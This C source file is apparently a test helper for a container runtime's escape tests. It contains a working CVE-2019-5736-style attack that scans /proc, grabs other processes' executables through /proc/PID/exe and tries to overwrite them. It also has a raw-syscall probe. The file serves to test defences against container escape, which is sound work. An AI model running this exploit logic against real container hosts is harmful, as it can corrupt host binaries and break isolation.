/* A container-side attacker for tests/escapes.rs, built static with gcc.
 *
 *   escape watch LOG STOPFILE   run as the container's init: grab the image of
 *                               every other process through /proc/PID/exe and
 *                               try to overwrite it (CVE-2019-5736); log each step
 *   escape hello                print a marker: proves which binary ran
 *   escape syscall NR           make raw syscall NR and print the errno it got
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define MAX_TRIED 256

static FILE *logf;

static void say(const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	vfprintf(logf, fmt, ap);
	va_end(ap);
	fputc('\n', logf);
	fflush(logf);
}

static void pause_ms(long ms)
{
	struct timespec ts = { ms / 1000, (ms % 1000) * 1000000L };
	nanosleep(&ts, NULL);
}

/* Inodes already attacked: each image is attacked once. */
static struct { dev_t dev; ino_t ino; } tried[MAX_TRIED];
static int ntried;

static int seen(const struct stat *st)
{
	for (int i = 0; i < ntried; i++)
		if (tried[i].dev == st->st_dev && tried[i].ino == st->st_ino)
			return 1;
	if (ntried < MAX_TRIED) {
		tried[ntried].dev = st->st_dev;
		tried[ntried].ino = st->st_ino;
		ntried++;
	}
	return 0;
}

/* Holds an O_PATH handle on the image, waits until nothing executes it any
 * more (ETXTBSY), then reopens it for writing through /proc/self/fd. */
static void attack(int pid, int handle, const char *name)
{
	char self[64];
	snprintf(self, sizeof self, "/proc/self/fd/%d", handle);
	say("GRAB pid=%d exe=%s", pid, name);
	for (int i = 0; i < 5000; i++) {
		int w = open(self, O_WRONLY | O_CLOEXEC);
		if (w < 0 && errno == ETXTBSY) {
			pause_ms(1);
			continue;
		}
		if (w < 0) {
			say("DENIED open errno=%d (%s) exe=%s", errno, strerror(errno), name);
			return;
		}
		if (pwrite(w, "PWNED", 5, 0) == 5)
			say("WROTE exe=%s", name);
		else
			say("DENIED write errno=%d (%s) exe=%s", errno, strerror(errno), name);
		close(w);
		return;
	}
	say("DENIED still busy after 5 s exe=%s", name);
}

static int watch(const char *log, const char *stop)
{
	struct stat me, bb, st;
	logf = fopen(log, "a");
	if (!logf)
		return 2;
	if (stat("/proc/self/exe", &me) != 0)
		return 3;
	if (stat("/bin/busybox", &bb) != 0)
		memset(&bb, 0, sizeof bb);
	seen(&me);
	seen(&bb);
	say("READY");
	unsigned long scans = 0;
	while (access(stop, F_OK) != 0) {
		DIR *d = opendir("/proc");
		if (!d)
			return 4;
		struct dirent *e;
		while ((e = readdir(d))) {
			int pid = atoi(e->d_name);
			if (pid <= 1)
				continue;
			char path[64], name[512];
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			int h = open(path, O_PATH | O_CLOEXEC);
			if (h < 0)
				continue; /* gone, or not dumpable */
			if (fstat(h, &st) != 0 || seen(&st)) {
				close(h);
				continue;
			}
			ssize_t n = readlink(path, name, sizeof name - 1);
			name[n > 0 ? n : 0] = 0;
			attack(pid, h, name);
			close(h);
		}
		closedir(d);
		scans++;
	}
	say("DONE scans=%lu", scans);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc >= 2 && strcmp(argv[1], "hello") == 0) {
		puts("HOST-BINARY-RAN");
		return 0;
	}
	if (argc == 3 && strcmp(argv[1], "syscall") == 0) {
		long r = syscall(atol(argv[2]), 0, 0, 0, 0, 0, 0);
		printf("result=%ld errno=%d\n", r, r < 0 ? errno : 0);
		return 0;
	}
	if (argc == 4 && strcmp(argv[1], "watch") == 0)
		return watch(argv[2], argv[3]);
	fprintf(stderr, "usage: escape watch LOG STOPFILE | escape hello | escape syscall NR\n");
	return 2;
}
